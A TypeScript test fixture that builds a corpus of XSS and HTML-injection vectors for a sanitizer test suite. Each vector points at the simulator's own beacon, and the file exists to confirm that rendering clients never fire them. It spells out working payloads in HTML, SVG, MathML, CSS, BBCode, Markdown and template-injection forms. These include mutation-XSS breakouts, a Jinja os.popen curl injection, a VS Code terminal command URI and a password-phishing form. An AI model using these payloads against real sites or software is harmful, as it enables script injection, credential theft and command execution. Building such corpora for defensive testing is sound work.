// A corpus of public XSS and HTML-injection vectors, by family, each aimed at the
// simulator's own /__beacon with its id as `src`: if a client ever executes or loads one,
// the beacon's hit names the vector. Every simulator's hostile tickets carry the corpus
// in that vendor's own forms (src/sandbox/*/hostile.ts); the real-webview suite
// (test/e2e/hostile.test.mts) opens them and expects zero hits.

/** `origin` is the simulator's; the beacon is always at `${origin}/__beacon`. */
export function beaconUrl(origin: string, source: string): string {
  return `${origin}/__beacon?src=${source}`;
}

export const XSS_FAMILIES = [
  /** Script tags and event-handler attributes in their many spellings. */
  'handler',
  'svg',
  'mathml',
  /** javascript:, vbscript: and data: URLs, with encodings, whitespace and entity tricks. */
  'url',
  'css',
  'meta-refresh',
  'base-href',
  'form',
  'srcdoc',
  'embed',
  /** link rel=import/prefetch/preload/stylesheet and friends. */
  'link',
  /** Mutation XSS: parser differentials (noscript, template, namespaces, comments, backticks). */
  'mxss',
  /** Client-side template injection: Angular, Vue, Handlebars, template literals. */
  'template',
  'bbcode',
  'markdown',
] as const;
export type XssFamily = (typeof XSS_FAMILIES)[number];

/** The formats a vector is written for; `text` is a plain field (subject, name, file name, status). */
export type XssTarget = 'html' | 'bbcode' | 'markdown' | 'text';

export interface XssVector {
  id: string;
  family: XssFamily;
  where: readonly XssTarget[];
  /** The vector, given the beacon URL that names it (`…/__beacon?src=<id>`). */
  payload(beacon: string): string;
  /**
   * Some parser may take everything after it as text, a comment or one element (unclosed
   * tags, comment and CDATA tricks, namespace confusion): it goes last in a body, so it
   * cannot hide the vectors after it from the sanitizer.
   */
  swallowsRest?: true;
}

const HTML: readonly XssTarget[] = ['html', 'text'];
const BBCODE: readonly XssTarget[] = ['bbcode'];
const MARKDOWN: readonly XssTarget[] = ['markdown'];
/** Template injection works on any text a framework would interpolate. */
const ANYWHERE: readonly XssTarget[] = ['html', 'bbcode', 'markdown', 'text'];

const b64 = (text: string): string => Buffer.from(text, 'utf8').toString('base64');
const svgDocument = (b: string): string => `<svg xmlns="http://www.w3.org/2000/svg" id="x" onload="fetch('${b}')"><rect width="5" height="5"/></svg>`;
const htmlDocument = (b: string): string => `<script>fetch('${b}')</script>`;
/** The beacon without its scheme: a protocol-relative URL. */
const schemeless = (b: string): string => b.replace(/^https?:/, '');

type Entry = [id: string, payload: (b: string) => string];

/** Ids of the vectors that may swallow what follows them (see `swallowsRest`). */
const SWALLOWERS = new Set([
  'plaintext-element',
  'unclosed-tag',
  'comment-empty-breakout',
  'comment-bang-breakout',
  'cdata-breakout',
  'processing-instruction',
  'form-math-mglyph',
  'select-template-style',
  'svg-p-style-namespace',
  'math-mtext-table-mglyph',
  'math-mglyph-svg-style',
  'backtick-attributes',
  'script-split',
  'base-href',
  'base-href-javascript',
  'base-href-script',
]);

function family(name: XssFamily, where: readonly XssTarget[], entries: readonly Entry[]): XssVector[] {
  return entries.map(([id, payload]) => ({ id, family: name, where, payload, ...(SWALLOWERS.has(id) && { swallowsRest: true as const }) }));
}

export const XSS_CORPUS: readonly XssVector[] = [
  ...family('handler', HTML, [
    ['img-onerror', (b) => `<img src=x onerror="fetch('${b}')">`],
    ['img-onerror-unquoted', (b) => `<img src=x onerror=fetch('${b}')>`],
    ['img-onerror-slashes', (b) => `<img/src=x/onerror=fetch('${b}')>`],
    ['img-onerror-newlines', (b) => `<img src=x\nonerror\n=\n"fetch('${b}')">`],
    ['img-onerror-backtick-call', (b) => `<img src=x onerror=fetch(\`${b}\`)>`],
    ['img-onerror-entities', (b) => `<img src=x onerror="&#102;&#101;&#116;&#99;&#104;('${b}')">`],
    ['img-onerror-uppercase', (b) => `<IMG SRC=x ONERROR="fetch('${b}')">`],
    ['img-onload-data', (b) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="fetch('${b}')">`],
    ['img-src-remote', (b) => `<img src="${b}" alt="remote image">`],
    ['img-src-unquoted', (b) => `<img src=${b}>`],
    ['img-src-protocol-relative', (b) => `<img src="${schemeless(b)}">`],
    ['img-srcset', (b) => `<img srcset="${b} 1x" alt="srcset">`],
    ['img-lowsrc-dynsrc', (b) => `<img lowsrc="${b}" dynsrc="${b}">`],
    ['picture-source', (b) => `<picture><source srcset="${b}"><img src=x alt="picture"></picture>`],
    ['body-onload', (b) => `<body onload="fetch('${b}')">`],
    ['body-onpageshow', (b) => `<body onpageshow="fetch('${b}')">`],
    ['body-background', (b) => `<body background="${b}">`],
    ['table-background', (b) => `<table background="${b}"><tr><td background="${b}">cell</td></tr></table>`],
    ['script', (b) => `<script>fetch('${b}')</script>`],
    ['script-src', (b) => `<script src="${b}"></script>`],
    ['script-uppercase', (b) => `<SCRIPT>fetch('${b}')</SCRIPT>`],
    ['script-split', (b) => `<scr<script>ipt>fetch('${b}')</scr</script>ipt>`],
    ['script-module', (b) => `<script type="module">import('${b}')</script>`],
    ['input-autofocus-onfocus', (b) => `<input autofocus onfocus="fetch('${b}')">`],
    ['textarea-autofocus-onfocus', (b) => `<textarea autofocus onfocus="fetch('${b}')">x</textarea>`],
    ['div-tabindex-onfocus', (b) => `<div tabindex="1" autofocus onfocus="fetch('${b}')">focus</div>`],
    ['details-ontoggle', (b) => `<details open ontoggle="fetch('${b}')"><summary>details</summary>x</details>`],
    ['video-source-onerror', (b) => `<video><source onerror="fetch('${b}')"></video>`],
    ['audio-onerror', (b) => `<audio src=x onerror="fetch('${b}')"></audio>`],
    ['video-poster', (b) => `<video poster="${b}"></video>`],
    ['marquee-onstart', (b) => `<marquee onstart="fetch('${b}')">marquee</marquee>`],
    ['div-onmouseover', (b) => `<div onmouseover="fetch('${b}')">hover me</div>`],
    ['p-onclick', (b) => `<p onclick="fetch('${b}')">Click me</p>`],
    ['span-onpointerenter', (b) => `<span onpointerenter="fetch('${b}')">point here</span>`],
    ['attribute-breakout-double', (b) => `"><img src=x onerror="fetch('${b}')">`],
    ['attribute-breakout-single', (b) => `'><script>fetch('${b}')</script>`],
    ['textarea-breakout', (b) => `</textarea><script>fetch('${b}')</script>`],
    ['title-breakout', (b) => `</title><script>fetch('${b}')</script>`],
    ['style-breakout', (b) => `</style><img src=x onerror="fetch('${b}')">`],
    ['js-string-breakout', (b) => `';fetch('${b}');//`],
    ['area-javascript', (b) => `<map name="m"><area shape="default" href="javascript:fetch('${b}')"></map><img usemap="#m" src=x alt="map">`],
  ]),
  ...family('svg', HTML, [
    ['svg-onload', (b) => `<svg onload="fetch('${b}')"><circle r="4"></circle></svg>`],
    ['svg-script', (b) => `<svg><script>fetch('${b}')</script></svg>`],
    ['svg-script-href', (b) => `<svg><script href="${b}"></script></svg>`],
    ['svg-script-xlink', (b) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><script xlink:href="${b}"></script></svg>`],
    ['svg-animate-href', (b) => `<svg><a><animate attributeName="href" values="javascript:fetch('${b}')"/><text y="20">click</text></a></svg>`],
    ['svg-set-href', (b) => `<svg><a><set attributeName="href" to="javascript:fetch('${b}')"/><text y="20">click</text></a></svg>`],
    ['svg-animate-onbegin', (b) => `<svg><animate onbegin="fetch('${b}')" attributeName="x" dur="1s"/></svg>`],
    ['svg-set-onbegin', (b) => `<svg><set onbegin="fetch('${b}')" attributeName="x" to="1"/></svg>`],
    ['svg-discard-onbegin', (b) => `<svg><discard onbegin="fetch('${b}')"/></svg>`],
    ['svg-use-data', (b) => `<svg><use href="data:image/svg+xml;base64,${b64(svgDocument(b))}#x"/></svg>`],
    ['svg-use-external', (b) => `<svg><use href="${b}#x"/></svg>`],
    ['svg-foreignobject', (b) => `<svg><foreignObject width="50" height="50"><img src=x onerror="fetch('${b}')"></foreignObject></svg>`],
    ['svg-image-href', (b) => `<svg><image href="${b}" width="5" height="5"/></svg>`],
    ['svg-feimage', (b) => `<svg><filter id="f"><feImage href="${b}"/></filter><rect filter="url(#f)" width="5" height="5"/></svg>`],
    ['svg-a-xlink-javascript', (b) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:fetch('${b}')"><text y="20">svg link</text></a></svg>`],
    ['svg-rect-onmouseover', (b) => `<svg><rect onmouseover="fetch('${b}')" width="100" height="20"/></svg>`],
    ['svg-style-import', (b) => `<svg><style>@import url(${b});</style></svg>`],
  ]),
  ...family('mathml', HTML, [
    ['math-maction', (b) => `<math><maction actiontype="statusline" xlink:href="javascript:fetch('${b}')">click<mtext>math</mtext></maction></math>`],
    ['math-href', (b) => `<math href="javascript:fetch('${b}')"><mi>x</mi></math>`],
    ['math-mi-xlink', (b) => `<math><mi xlink:href="javascript:fetch('${b}')">y</mi></math>`],
    ['math-annotation-xml-html', (b) => `<math><annotation-xml encoding="text/html"><img src=x onerror="fetch('${b}')"></annotation-xml></math>`],
    ['math-annotation-xml-svg', (b) => `<math><annotation-xml encoding="application/xhtml+xml"><svg onload="fetch('${b}')"></svg></annotation-xml></math>`],
    ['math-semantics-script', (b) => `<math><semantics><annotation-xml encoding="text/html"><script>fetch('${b}')</script></annotation-xml></semantics></math>`],
    ['math-mtext-table-mglyph', (b) => `<math><mtext><table><mglyph><style><img src=x onerror="fetch('${b}')"></style></mglyph></table></mtext></math>`],
    ['math-mglyph-svg-style', (b) => `<math><mtext><mglyph><svg><mtext><style><path id="</style><img src=x onerror=fetch('${b}')>"></path></style></mtext></svg></mglyph></mtext></math>`],
    ['math-mstyle-onmouseover', (b) => `<math><mstyle onmouseover="fetch('${b}')"><mi>z</mi></mstyle></math>`],
  ]),
  ...family('url', HTML, [
    ['js-href', (b) => `<a href="javascript:fetch('${b}')">Open the invoice</a>`],
    ['js-href-mixed-case', (b) => `<a href="JaVaScRiPt:fetch('${b}')">mixed case</a>`],
    ['js-href-tab-entity', (b) => `<a href="jav&#x09;ascript:fetch('${b}')">tab</a>`],
    ['js-href-newline-entity', (b) => `<a href="jav&#x0A;ascript:fetch('${b}')">newline</a>`],
    ['js-href-named-tab', (b) => `<a href="java&Tab;script:fetch('${b}')">named tab</a>`],
    ['js-href-named-newline', (b) => `<a href="java&NewLine;script:fetch('${b}')">named newline</a>`],
    ['js-href-leading-controls', (b) => `<a href=" &#14;  javascript:fetch('${b}')">leading controls</a>`],
    ['js-href-decimal-entities', (b) => `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;fetch('${b}')">decimal</a>`],
    ['js-href-hex-no-semicolons', (b) => `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A fetch('${b}')">hex</a>`],
    ['js-href-padded-entity', (b) => `<a href="&#0000106avascript:fetch('${b}')">padded</a>`],
    ['js-href-colon-entity', (b) => `<a href="javascript&colon;fetch('${b}')">colon entity</a>`],
    ['js-href-percent-encoded', (b) => `<a href="javascript:%66etch('${b}')">percent</a>`],
    ['js-href-unicode-escape', (b) => `<a href="javascript:\\u0066etch('${b}')">unicode escape</a>`],
    ['js-href-first-letter-entity', (b) => `<a href="&#106;avascript:fetch('${b}')">encoded link</a>`],
    ['js-img-src', (b) => `<img src="javascript:fetch('${b}')">`],
    ['js-iframe-src', (b) => `<iframe src="javascript:fetch('${b}')"></iframe>`],
    ['vbscript-href', (b) => `<a href="vbscript:CreateObject(&quot;MSXML2.XMLHTTP&quot;).open &quot;GET&quot;,&quot;${b}&quot;">vbscript</a>`],
    ['vbscript-img', (b) => `<img src="vbscript:msgbox('${b}')">`],
    ['data-html-href', (b) => `<a href="data:text/html,${htmlDocument(b)}">data link</a>`],
    ['data-html-base64-href', (b) => `<a href="data:text/html;base64,${b64(htmlDocument(b))}">base64 data link</a>`],
    ['data-html-iframe', (b) => `<iframe src="data:text/html,${htmlDocument(b)}"></iframe>`],
    ['data-svg-img', (b) => `<img src="data:image/svg+xml;base64,${b64(svgDocument(b))}">`],
    ['data-svg-img-utf8', (b) => `<img src="data:image/svg+xml,${encodeURIComponent(svgDocument(b))}">`],
    ['data-js-script', (b) => `<script src="data:text/javascript,fetch('${b}')"></script>`],
    ['href-protocol-relative', (b) => `<a href="${schemeless(b)}">protocol relative</a>`],
    ['href-command-uri', (b) => `<a href="command:workbench.action.terminal.sendSequence?${encodeURIComponent(JSON.stringify({ text: `curl ${b}\n` }))}">run</a>`],
  ]),
  ...family('css', HTML, [
    ['css-import', (b) => `<style>@import url("${b}");</style>`],
    ['css-import-bare', (b) => `<style>@import '${b}';</style>`],
    ['css-import-escaped', (b) => `<style>@im\\port '${b}';</style>`],
    ['css-background-url', (b) => `<div style="background:url('${b}')">styled</div>`],
    ['css-url-escaped', (b) => `<div style="background-image:u\\72l(${b})">escaped url</div>`],
    ['css-expression', (b) => `<div style="width:expression(fetch('${b}'))">expression</div>`],
    ['css-behavior', (b) => `<div style="behavior:url(${b})">behavior</div>`],
    ['css-moz-binding', (b) => `<div style="-moz-binding:url(${b}#xss)">binding</div>`],
    ['css-font-face', (b) => `<style>@font-face{font-family:x;src:url(${b})}body{font-family:x}</style>`],
    ['css-list-style-image', (b) => `<ul style="list-style-image:url(${b})"><li>item</li></ul>`],
    ['css-cursor', (b) => `<div style="cursor:url(${b}),auto">cursor</div>`],
    ['css-content-url', (b) => `<style>body::before{content:url(${b})}</style>`],
    ['css-javascript-url', (b) => `<div style="background:url(javascript:fetch('${b}'))">js url</div>`],
    ['css-filter-url', (b) => `<div style="filter:url(${b}#f)">filter</div>`],
    ['css-onanimationstart', (b) => `<style>@keyframes k{from{opacity:1}}</style><div style="animation:k 1s" onanimationstart="fetch('${b}')">animated</div>`],
    ['css-ontransitionend', (b) => `<div style="transition:color 1ms" ontransitionend="fetch('${b}')">transition</div>`],
  ]),
  ...family('meta-refresh', HTML, [
    ['meta-refresh', (b) => `<meta http-equiv="refresh" content="0;url=${b}">`],
    ['meta-refresh-javascript', (b) => `<meta http-equiv="refresh" content="0;url=javascript:fetch('${b}')">`],
    ['meta-refresh-data', (b) => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(htmlDocument(b))}">`],
    ['meta-refresh-uppercase-quoted', (b) => `<META HTTP-EQUIV=Refresh CONTENT="1; URL='${b}'">`],
    ['meta-csp-override', (b) => `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><img src="${b}">`],
  ]),
  ...family('base-href', HTML, [
    ['base-href', (b) => `<base href="${b}"><img src="#x" alt="relative"><a href="#x">relative link</a>`],
    ['base-href-javascript', (b) => `<base href="javascript:fetch('${b}')//"><a href="/x">relative</a>`],
    ['base-href-script', (b) => `<base href="${b}"><script src="#s"></script>`],
  ]),
  ...family('form', HTML, [
    ['form-action', (b) => `<form action="${b}" method="post"><button>Confirm</button></form>`],
    ['form-action-javascript', (b) => `<form action="javascript:fetch('${b}')"><input type="submit" value="Go"></form>`],
    ['button-formaction', (b) => `<form><button formaction="javascript:fetch('${b}')">Pay now</button></form>`],
    ['input-formaction', (b) => `<form><input type="submit" formaction="${b}" value="Verify"></form>`],
    ['button-form-attribute', (b) => `<button form="f2" formaction="${b}">Outside</button><form id="f2"></form>`],
    ['input-image', (b) => `<input type="image" src="${b}">`],
    ['isindex', (b) => `<isindex action="${b}" type="image" src="${b}">`],
    ['form-password-phish', (b) => `<form action="${b}"><input type="password" name="p" placeholder="Re-enter your password"><button>Sign in</button></form>`],
  ]),
  ...family('srcdoc', HTML, [
    ['iframe-srcdoc', (b) => `<iframe srcdoc="<script>fetch('${b}')</script>"></iframe>`],
    ['iframe-srcdoc-entities', (b) => `<iframe srcdoc="&lt;img src=x onerror=&quot;fetch('${b}')&quot;&gt;"></iframe>`],
    ['iframe-srcdoc-nested', (b) => `<iframe srcdoc="<iframe srcdoc='<img src=x onerror=fetch(\`${b}\`)>'></iframe>"></iframe>`],
    ['iframe-srcdoc-meta', (b) => `<iframe srcdoc="<meta http-equiv=refresh content='0;url=${b}'>"></iframe>`],
    ['frameset-frame', (b) => `<frameset><frame src="${b}"></frameset>`],
  ]),
  ...family('embed', HTML, [
    ['iframe-src', (b) => `<iframe src="${b}" width="1" height="1"></iframe>`],
    ['object-data', (b) => `<object data="${b}"></object>`],
    ['object-javascript', (b) => `<object data="javascript:fetch('${b}')"></object>`],
    ['object-param', (b) => `<object><param name="src" value="${b}"><param name="movie" value="${b}"></object>`],
    ['object-data-svg', (b) => `<object data="data:image/svg+xml;base64,${b64(svgDocument(b))}"></object>`],
    ['embed-src', (b) => `<embed src="${b}">`],
    ['embed-javascript', (b) => `<embed src="javascript:fetch('${b}')">`],
    ['applet-codebase', (b) => `<applet code="x" codebase="${b}"></applet>`],
    ['portal-src', (b) => `<portal src="${b}"></portal>`],
  ]),
  ...family('link', HTML, [
    ['link-import', (b) => `<link rel="import" href="${b}">`],
    ['link-prefetch', (b) => `<link rel="prefetch" href="${b}">`],
    ['link-preload', (b) => `<link rel="preload" as="image" href="${b}">`],
    ['link-dns-prefetch', (b) => `<link rel="dns-prefetch preconnect" href="${b}">`],
    ['link-stylesheet', (b) => `<link rel="stylesheet" href="${b}">`],
    ['link-icon', (b) => `<link rel="icon" href="${b}">`],
    ['link-modulepreload', (b) => `<link rel="modulepreload" href="${b}">`],
    ['a-ping', (b) => `<a href="https://example.com/" ping="${b}">pinged link</a>`],
  ]),
  ...family('mxss', HTML, [
    ['noscript-title-breakout', (b) => `<noscript><p title="</noscript><img src=x onerror=fetch('${b}')>"></noscript>`],
    ['noembed-breakout', (b) => `<noembed><img title="</noembed><img src=x onerror=fetch('${b}')>"></noembed>`],
    ['noframes-breakout', (b) => `<noframes><img title="</noframes><img src=x onerror=fetch('${b}')>"></noframes>`],
    ['xmp-breakout', (b) => `<xmp><img title="</xmp><img src=x onerror=fetch('${b}')>"></xmp>`],
    ['textarea-title-breakout', (b) => `<textarea><img title="</textarea><img src=x onerror=fetch('${b}')>"></textarea>`],
    ['title-element-breakout', (b) => `<title><img title="</title><img src=x onerror=fetch('${b}')>"></title>`],
    ['template-content', (b) => `<template><img src=x onerror="fetch('${b}')"></template>`],
    ['template-in-table', (b) => `<table><template><img src=x onerror="fetch('${b}')"></template></table>`],
    ['svg-p-style-namespace', (b) => `<svg></p><style><a id="</style><img src=1 onerror=fetch('${b}')>"></a></style></svg>`],
    ['form-math-mglyph', (b) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="fetch('${b}')">`],
    ['select-template-style', (b) => `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=fetch('${b}')>">`],
    ['comment-empty-breakout', (b) => `<!--><img src=x onerror="fetch('${b}')">-->`],
    ['comment-bang-breakout', (b) => `<!--!><img src=x onerror=fetch('${b}')>-->`],
    ['comment-conditional', (b) => `<!--[if gte IE 4]><script>fetch('${b}')</script><![endif]-->`],
    ['cdata-breakout', (b) => `<![CDATA[><img src=x onerror=fetch('${b}')>]]>`],
    ['processing-instruction', (b) => `<?xml-stylesheet href="${b}"?><?x ><img src=x onerror=fetch('${b}')>?>`],
    ['backtick-attributes', (b) => `<img src=\`x\`onerror=\`fetch('${b}')\`>`],
    ['double-encoded', (b) => `&lt;img src=x onerror=fetch('${b}')&gt; &amp;lt;script&amp;gt;fetch('${b}')&amp;lt;/script&amp;gt;`],
    ['utf7', (b) => `+ADw-script+AD4-fetch('${b}')+ADw-/script+AD4-`],
    ['unclosed-tag', (b) => `<img src=x onerror="fetch('${b}')" `],
    ['plaintext-element', (b) => `<plaintext><img src=x onerror=fetch('${b}')>`],
  ]),
  ...family('template', ANYWHERE, [
    ['angular-constructor', (b) => `{{constructor.constructor('fetch("${b}")')()}}`],
    ['angular-charat-sandbox', (b) => `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };fetch("${b}")//');}}`],
    ['angular-ng-focus', (b) => `<div ng-app ng-csp><input autofocus ng-focus="$event.view.fetch('${b}')"></div>`],
    ['vue-constructor', (b) => `{{_c.constructor('fetch("${b}")')()}}`],
    ['vue-v-html', (b) => `<div v-html="'<img src=x onerror=fetch(&quot;${b}&quot;)>'"></div>`],
    ['template-literal', (b) => `\${fetch('${b}')}`],
    ['template-literal-backticks', (b) => `\`\${fetch('${b}')}\``],
    ['handlebars-constructor', (b) => `{{#with "s" as |string|}}{{string.constructor.constructor "fetch('${b}')"}}{{/with}}`],
    ['jinja-globals', (b) => `{{ cycler.__init__.__globals__.os.popen('curl ${b}').read() }}`],
    ['erb-output', (b) => `<%= fetch('${b}') %>`],
    ['ruby-interpolation', (b) => `#{fetch('${b}')}`],
    ['alpine-x-init', (b) => `<div x-data x-init="fetch('${b}')"></div>`],
    ['htmx-hx-get', (b) => `<div hx-get="${b}" hx-trigger="load"></div>`],
    ['knockout-data-bind', (b) => `<div data-bind="html: '<img src=x onerror=fetch(&quot;${b}&quot;)>'"></div>`],
  ]),
  ...family('bbcode', BBCODE, [
    ['bb-url-javascript', (b) => `[url=javascript:fetch('${b}')]Order details[/url]`],
    ['bb-url-bare-javascript', (b) => `[url]javascript:fetch('${b}')[/url]`],
    ['bb-url-quote-breakout', (b) => `[url=https://example.com/" onmouseover="fetch('${b}')]example[/url]`],
    ['bb-url-entity', (b) => `[url=&#106;avascript:fetch('${b}')]entity[/url]`],
    ['bb-url-data', (b) => `[url=data:text/html;base64,${b64(htmlDocument(b))}]data[/url]`],
    ['bb-url-nested-img', (b) => `[url=[img]${b}[/img]]nested[/url]`],
    ['bb-img', (b) => `[img]${b}[/img]`],
    ['bb-img-sized', (b) => `[img=1x1]${b}[/img]`],
    ['bb-img-javascript', (b) => `[img]javascript:fetch('${b}')[/img]`],
    ['bb-img-onerror', (b) => `[img]x" onerror="fetch('${b}')[/img]`],
    ['bb-color-breakout', (b) => `[color=red" onmouseover="fetch('${b}')]red[/color]`],
    ['bb-color-css', (b) => `[color=red;background:url(${b})]css color[/color]`],
    ['bb-size-style', (b) => `[size=10" style="background:url(${b})]size[/size]`],
    ['bb-quote-name', (b) => `[quote="<script>fetch('${b}')</script>"]as I said[/quote]`],
    ['bb-email-javascript', (b) => `[email]javascript:fetch('${b}')[/email]`],
    ['bb-code-breakout', (b) => `[code]</code><img src=x onerror=fetch('${b}')>[/code]`],
    ['bb-list-item-breakout', (b) => `[list][*]"><svg onload=fetch('${b}')>[/list]`],
  ]),
  ...family('markdown', MARKDOWN, [
    ['md-link-javascript', (b) => `[Open the invoice](javascript:fetch('${b}'))`],
    ['md-link-javascript-upper', (b) => `[upper](JAVASCRIPT:fetch('${b}'))`],
    ['md-link-javascript-entity', (b) => `[entity](javascript&#58;fetch('${b}'))`],
    ['md-link-javascript-spaced', (b) => `[spaced](<javascript:fetch('${b}')>)`],
    ['md-link-data', (b) => `[data](data:text/html;base64,${b64(htmlDocument(b))})`],
    ['md-link-vbscript', (b) => `[vb](vbscript:msgbox('${b}'))`],
    ['md-link-protocol-relative', (b) => `[relative](${schemeless(b)})`],
    ['md-link-title-breakout', (b) => `[title](https://example.com/ "a\\" onmouseover=\\"fetch('${b}')")`],
    ['md-reference-javascript', (b) => `[reference][evil]\n\n[evil]: javascript:fetch('${b}')`],
    ['md-image-remote', (b) => `![tracking](${b})`],
    ['md-image-alt-breakout', (b) => `![x" onerror="fetch('${b}')](x)`],
    ['md-image-javascript', (b) => `![js](javascript:fetch('${b}'))`],
    ['md-image-data-svg', (b) => `![svg](data:image/svg+xml;base64,${b64(svgDocument(b))})`],
    ['md-autolink', (b) => `<${b}>`],
    ['md-autolink-javascript', (b) => `<javascript:fetch('${b}')>`],
    ['md-bare-url', (b) => `see ${b} for details`],
    ['md-raw-html-inline', (b) => `inline <img src=x onerror="fetch('${b}')"> html`],
    ['md-raw-html-block', (b) => `<div>\n\n<script>fetch('${b}')</script>\n\n</div>`],
    ['md-raw-html-link', (b) => `<a href="javascript:fetch('${b}')">raw link</a>`],
  ]),
];

export interface FilledVector {
  id: string;
  family: XssFamily;
  payload: string;
  swallowsRest: boolean;
}

/** The vectors for one format, with the beacon URLs of `origin` filled in. */
export function corpusPayloads(origin: string, target: XssTarget): FilledVector[] {
  return XSS_CORPUS.filter((vector) => vector.where.includes(target)).map((vector) => ({
    id: vector.id,
    family: vector.family,
    payload: vector.payload(beaconUrl(origin, vector.id)),
    swallowsRest: vector.swallowsRest === true,
  }));
}

/** `items` in consecutive groups of at most `size`. */
export function chunks<T>(items: readonly T[], size: number): T[][] {
  const groups: T[][] = [];
  for (let at = 0; at < items.length; at += size) groups.push(items.slice(at, at + size));
  return groups;
}
